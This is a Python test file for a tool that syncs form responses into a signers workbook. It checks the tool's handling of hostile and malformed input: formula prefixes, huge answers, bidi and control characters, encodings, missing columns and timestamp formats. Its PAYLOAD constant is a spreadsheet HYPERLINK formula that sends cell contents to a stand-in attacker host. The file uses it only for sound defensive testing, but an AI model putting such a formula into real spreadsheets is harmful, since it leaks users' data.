"""Hostile and malformed responses: each one is processed, skipped with a reason, or stops
with a message naming job, tab and column. Nothing is executed, nothing crashes."""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from sync.cells import CELL_LIMITS, CUT_MARK
from sync.cli import main
from sync.config import load_job
from sync.fields import FIELDS
from tests.conftest import HEADERS, response, write_form_csv
from tests.harness import count, run

CLOCK = lambda: dt.datetime(2021, 11, 1, 9, tzinfo=dt.UTC)  # noqa: E731
FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\t=", " =", "=="]
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"click")'


def curated_cells(book: Path) -> list[openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(book)["Curated Signers"]
    return [c for row in sheet.iter_rows() for c in row if c.value is not None]


def assert_no_formulas(book: Path) -> None:
    for tab in openpyxl.load_workbook(book).worksheets:
        for row in tab.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{tab.title}!{cell.coordinate} is a formula"


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_formula_prefixes_in_every_field_reach_the_sheet_as_text(
    csv_job: Callable[..., Path], tmp_path: Path, prefix: str
) -> None:
    count("hostile inputs", len(FIELDS))
    value = prefix + PAYLOAD
    rows = [response(**dict.fromkeys(FIELDS, value)),
            response(**{**dict.fromkeys(FIELDS, value), "email": f"{prefix}x@example.org",
                        "submitted_at": "10/20/2021 10:00:00", "authorized": "Yes"})]
    result = run(load_job(csv_job(rows)), with_digest=True, clock=CLOCK)

    book = tmp_path / "out" / "signers.xlsx"
    assert_no_formulas(book)
    texts = [str(c.value) for c in curated_cells(book)]
    assert any("HYPERLINK" in t for t in texts)  # kept, as text
    assert len(result.curated) + len(result.skipped) >= 1


def test_an_answer_of_50000_characters_is_cut_to_a_cell_with_a_message(
    csv_job: Callable[..., Path], tmp_path: Path
) -> None:
    count("hostile inputs", 4)
    huge = "Solidarity " * 4546
    rows = [response(submitted_at="10/20/2021 10:00:00", email="a@example.org",
                     organization=huge[:50_000], first_name="A" * 50_000, last_name="Lee",
                     affiliation=huge[:50_000], scope="National", authorized="Yes")]
    job = load_job(csv_job(rows))
    result = run(job, clock=CLOCK)

    assert any("column 'Name'" in m and "cut" in m for m in result.messages)
    names = pd.read_excel(tmp_path / "out" / "signers.xlsx", dtype=str)["Name"]
    assert all(len(n) <= CELL_LIMITS["workbook"] and n.endswith(CUT_MARK) for n in names)
    assert not run(job, clock=CLOCK).wrote  # the cut value is stable: nothing rewritten


@pytest.mark.parametrize(("typed", "expected"), [
    ("Café 🌍 Collective", "Café 🌍 Collective"),
    ("اتحاد العمال", "اتحاد العمال"),  # right-to-left
    ("\u202eevil\u202c Org", "evil Org"),  # bidi override stripped
    ("Cafe\u0301 Workers", "Café Workers"),  # combining accent composed
    ("Zero\u200bWidth\ufeff Union", "ZeroWidth Union"),
    ("Bell\x07 Tenants\x00 Union", "Bell Tenants Union"),
])
def test_unicode_and_control_characters_are_cleaned_not_fatal(
    csv_job: Callable[..., Path], tmp_path: Path, typed: str, expected: str
) -> None:
    count("hostile inputs")
    rows = [response(submitted_at="10/20/2021 10:00:00", email="a@example.org",
                     organization=typed, scope="National", authorized="Yes")]
    run(load_job(csv_job(rows)), clock=CLOCK)
    names = pd.read_excel(tmp_path / "out" / "signers.xlsx", dtype=str)["Name"].tolist()
    assert names == [expected]


def _signers(book: Path) -> list[list[str]]:
    frame = pd.read_excel(book, dtype=str).fillna("")
    return frame.drop(columns=["Signer ID"]).sort_values("Name").values.tolist()


ROWS = [
    response(submitted_at="10/20/2021 10:00:00", email="jose@example.org",
             organization="Comité de Solidaridad", scope="Local", authorized="Yes"),
    response(submitted_at="10/21/2021 10:00:00", email="ana@example.org", first_name="Ana",
             last_name="Muñoz", affiliation="Café “Sur”"),
]


@pytest.mark.parametrize("encoding", ["cp1252", "utf-8-sig"])
def test_a_cp1252_or_bom_export_gives_the_same_signers_as_utf8(
    tmp_path: Path, encoding: str
) -> None:
    count("hostile inputs")
    results = []
    for variant in ("utf-8", encoding):
        folder = tmp_path / variant
        folder.mkdir()
        write_form_csv(folder / "responses.csv", ROWS, encoding=variant)
        (folder / "job.toml").write_text('[source]\nkind = "csv"\npath = "responses.csv"\n'
                                         '[target]\nkind = "workbook"\npath = "out.xlsx"\n')
        assert main(["run", str(folder / "job.toml")]) == 0
        results.append(_signers(folder / "out.xlsx"))
    assert results[0] == results[1]
    assert "Comité de Solidaridad" in [row[1] for row in results[1]]


def _run_with_headers(tmp_path: Path, headers: list[str], rows: list[list[str]]) -> Path:
    with (tmp_path / "responses.csv").open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(headers)
        writer.writerows(rows)
    (tmp_path / "job.toml").write_text('[source]\nkind = "csv"\npath = "responses.csv"\n'
                                       '[target]\nkind = "workbook"\npath = "out.xlsx"\n')
    return tmp_path / "job.toml"


def _row(**answers: str) -> list[str]:
    return [response(**answers)[f] for f in FIELDS]


def test_duplicate_and_blank_header_cells_are_tolerated(tmp_path: Path) -> None:
    count("hostile inputs", 2)
    headers = [*HEADERS, "", "Email Address", ""]
    row = _row(submitted_at="10/20/2021 10:00:00", email="a@example.org", first_name="Ana",
               last_name="Ruiz")
    # the repeated Email Address column is blank, so the answered one is used (both answered
    # is a setup mistake: tests/test_setup_mistakes.py)
    job = _run_with_headers(tmp_path, headers, [[*row, "junk", "", ""]])
    assert main(["run", str(job)]) == 0
    frame = pd.read_excel(tmp_path / "out.xlsx", dtype=str)
    assert frame[["Name", "Email"]].values.tolist() == [["Ana Ruiz", "a@example.org"]]


def test_reordered_columns_give_the_same_signers(tmp_path: Path) -> None:
    count("hostile inputs")
    results = []
    for order in (list(range(len(HEADERS))), list(reversed(range(len(HEADERS))))):
        folder = tmp_path / str(order[0])
        folder.mkdir()
        rows = [[r[f] for f in FIELDS] for r in ROWS]
        job = _run_with_headers(folder, [HEADERS[i] for i in order],
                                [[row[i] for i in order] for row in rows])
        assert main(["run", str(job)]) == 0
        results.append(_signers(folder / "out.xlsx"))
    assert results[0] == results[1]


def test_a_renamed_optional_question_leaves_its_column_blank(tmp_path: Path) -> None:
    count("hostile inputs")
    headers = [h if h != FIELDS["scope"] else "How far does your work reach?" for h in HEADERS]
    job = _run_with_headers(tmp_path, headers, [[r[f] for f in FIELDS] for r in ROWS])
    assert main(["run", str(job)]) == 0
    frame = pd.read_excel(tmp_path / "out.xlsx", dtype=str).fillna("")
    org = frame[frame["Type"] == "Organization"].iloc[0]
    assert org["Scope"] == "Unknown" and "no scope given" in org["Flags"]


@pytest.mark.parametrize("field", ["email", "organization+names"])
def test_a_deleted_required_question_stops_naming_job_file_and_column(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], field: str
) -> None:
    count("hostile inputs")
    gone = {"email"} if field == "email" else {"organization", "first_name", "last_name"}
    keep = [f for f in FIELDS if f not in gone]
    job = _run_with_headers(tmp_path, [FIELDS[f] for f in keep],
                            [[ROWS[0][f] for f in keep]])
    assert main(["run", str(job)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("signer-sync: job: ") and "responses.csv" in err
    assert f"no column for `{field.split('+')[0]}`" in err
    assert not (tmp_path / "out.xlsx").exists()


def test_an_empty_export_stops_with_a_message_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    count("hostile inputs")
    (tmp_path / "responses.csv").write_bytes(b"")
    (tmp_path / "job.toml").write_text('[source]\nkind = "csv"\npath = "responses.csv"\n'
                                       '[target]\nkind = "workbook"\npath = "out.xlsx"\n')
    assert main(["run", str(tmp_path / "job.toml")]) == 2
    assert "responses.csv is empty: download the responses again" in capsys.readouterr().err
    assert not (tmp_path / "out.xlsx").exists()


def test_an_empty_response_tab_in_a_workbook_stops_naming_the_tab(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    count("hostile inputs")
    book = openpyxl.Workbook()
    book.active.title = "Form Responses 1"
    book.save(tmp_path / "form.xlsx")
    (tmp_path / "job.toml").write_text('[source]\nkind = "workbook"\npath = "form.xlsx"\n')
    assert main(["run", str(tmp_path / "job.toml")]) == 2
    err = capsys.readouterr().err
    assert "tab 'Form Responses 1'" in err and "no column for `email`" in err


def test_a_sheet_of_only_headers_writes_an_empty_curated_tab(
    csv_job: Callable[..., Path], tmp_path: Path
) -> None:
    count("hostile inputs")
    result = run(load_job(csv_job([])), with_digest=True, clock=CLOCK)
    assert result.curated.empty and result.digest is not None
    frame = pd.read_excel(tmp_path / "out" / "signers.xlsx", sheet_name="Curated Signers")
    assert frame.empty and frame.columns[0] == "Signer ID"


@pytest.mark.parametrize(("stamp", "first_signed"), [
    ("10/20/2021 14:05:00", "2021-10-20T14:05:00"),
    ("2021-10-20 14:05:00", "2021-10-20T14:05:00"),
    ("20.10.2021 14:05:00", "2021-10-20T14:05:00"),  # German
    ("20/10/2021 14:05:00", "2021-10-20T14:05:00"),  # day first (day > 12)
    ("2021-10-20T14:05:00Z", "2021-10-20T10:05:00"),  # UTC, shown in the job's zone (EDT)
    ("Oct 20, 2021 2:05 PM", "2021-10-20T14:05:00"),
    ("", ""),
    ("gestern", ""),
])
def test_timestamps_in_other_shapes_are_read_or_flagged_missing(
    csv_job: Callable[..., Path], tmp_path: Path, stamp: str, first_signed: str
) -> None:
    count("hostile inputs")
    rows = [response(submitted_at=stamp, email="a@example.org", first_name="Ana",
                     last_name="Ruiz", affiliation="Teacher")]
    run(load_job(csv_job(rows)), clock=CLOCK)
    row = pd.read_excel(tmp_path / "out" / "signers.xlsx", dtype=str).fillna("").iloc[0]
    assert row["First Signed"] == first_signed
    assert ("no timestamp" in row["Flags"]) == (not first_signed)


def test_blank_and_test_responses_are_skipped_with_a_reason_in_the_digest(
    csv_job: Callable[..., Path]
) -> None:
    count("hostile inputs", 3)
    rows = [response(submitted_at="10/20/2021 10:00:00", email="a@example.org",
                     first_name="Ana", last_name="Ruiz"),
            response(submitted_at="10/20/2021 11:00:00", email="t@example.org",
                     organization="test", first_name="asdf", last_name="asdf"),
            response(submitted_at="10/20/2021 12:00:00", email="n@example.org"),
            response(submitted_at="10/20/2021 13:00:00", scope="National")]
    result = run(load_job(csv_job(rows)), with_digest=True, clock=CLOCK)
    reasons = sorted(s.reason for s in result.skipped)
    assert reasons == ["blank response", "looks like a test entry",
                       "no organization or name given"]
    assert result.digest is not None and result.digest.skipped == 3
    assert result.digest_file is not None
    report = result.digest_file.read_text(encoding="utf-8")
    assert "looks like a test entry: 1 (sheet row 3)" in report
    assert "blank response: 1 (sheet row 5)" in report


def test_100000_rows_are_all_accounted_for(csv_job: Callable[..., Path]) -> None:
    """A form spammed with 100,000 answers from 2,000 addresses (the real load test of a
    sync is the number of rows; distinct signers are few)."""
    count("hostile inputs")
    rows = []
    for i in range(100_000):
        when = f"10/{1 + i % 28:02d}/2021 {i % 24:02d}:{i % 60:02d}:00"
        k = i // 2 % 1000
        if i % 2:
            rows.append(response(submitted_at=when, email=f"p{k}@example.org",
                                 first_name=f"Ann{k}", last_name="Lee"))
        else:
            rows.append(response(submitted_at=when, email=f"o{k}@org.example",
                                 organization=f"Org number {k}", scope="National",
                                 authorized="Yes"))
    result = run(load_job(csv_job(rows)), clock=CLOCK)
    assert result.responses == 100_000 and not result.skipped
    assert result.count("Organization") == 1000 and result.count("Individual") == 1000
    assert int(result.curated["Responses"].sum()) == 100_000
